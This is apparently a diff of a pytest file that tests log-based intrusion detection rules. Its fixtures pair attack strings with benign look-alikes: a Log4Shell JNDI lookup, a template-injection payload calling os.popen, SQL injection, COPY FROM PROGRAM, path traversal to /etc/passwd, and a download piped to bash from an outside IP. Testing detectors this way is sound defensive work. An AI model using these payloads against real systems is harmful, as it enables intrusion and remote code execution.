@@ -176,7 +176,7 @@ TRANSFERS = {
 @pytest.mark.parametrize("name", TRANSFERS)
 def test_a_script_that_is_uploaded_is_told(name: str):
     found, quiet = (found_in(TRANSFERS[name].format(file)) for file in ("up.php", "photo.jpg"))
-    assert found["Script uploaded through a file server"] is Severity.MEDIUM
+    assert found["Possible web shell uploaded over FTP or SFTP"] is Severity.MEDIUM
     assert set(quiet.values()) <= {Severity.INFO}
 
 
@@ -187,24 +187,24 @@ def test_a_refused_or_unfinished_transfer_is_none():
 
 
 MESSAGES = {
-    "Log4Shell or lookup strings in a program's log": ("agent ${jndi:ldap://203.0.113.5/a}", "agent ${version}"),
-    "Code or template injection strings in a program's log": (
+    "Log4Shell lookup strings (JNDI) in an application log": ("agent ${jndi:ldap://203.0.113.5/a}", "agent ${version}"),
+    "Code or template injection strings in an application log": (
         "template error: {{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
         "template error: {{config.title}} is not defined",
     ),
-    "SQL injection strings in a program's log": (
+    "Web SQL injection strings in an application log": (
         "SELECT * FROM users WHERE name='' or '1'='1'",
         "SELECT * FROM users WHERE name='union' AND id=1",
     ),
-    "Database asked to run a program or to write a script": (
+    "SQL command execution or script written by a database": (
         "statement: COPY x FROM PROGRAM 'id'",
         "statement: COPY x FROM '/srv/import/customers.csv'",
     ),
-    "Path traversal strings in a program's log": (
+    "Path traversal strings in an application log": (
         "cannot open /srv/files/../../../../etc/passwd",
         "cannot open ../../../node_modules/x/index.js",
     ),
-    "Reverse shell or download piped to a shell in a program's log": (
+    "Reverse shell or piped download in an application log": (
         "ran: curl -s http://203.0.113.5/x.sh | bash",
         "ran: curl -s http://203.0.113.5/x.json | jq .",
     ),
